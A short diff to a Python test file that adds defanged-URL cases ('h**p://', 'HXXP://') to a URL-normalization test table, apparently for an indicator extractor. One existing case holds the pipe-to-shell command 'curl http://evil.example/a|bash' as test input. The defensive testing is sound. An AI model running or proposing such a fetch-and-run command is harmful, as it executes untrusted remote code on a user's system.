@@ -52,6 +52,8 @@ def test_the_session_name_of_an_assumed_role_may_be_an_email_address() -> None:
         ("http://evil.example/a\ud800b", "http://evil.example/a"),
         ("curl http://evil.example/a|bash", "http://evil.example/a"),
         ("URL:HTTP://evil.example/a;", "http://evil.example/a"),
+        ("h**p://evil.example/a", "http://evil.example/a"),
+        ("HXXP://evil.example/a", "http://evil.example/a"),
         ("http://bob:s3cret@evil.example/a", "http://evil.example/a"),
         ("http://evil.example/?u=http://other.example/", "http://evil.example/?u=http://other.example/"),
         (f"http://evil.example/{MD5}/203.0.113.9/a@b.example", f"http://evil.example/{MD5}/203.0.113.9/a@b.example"),
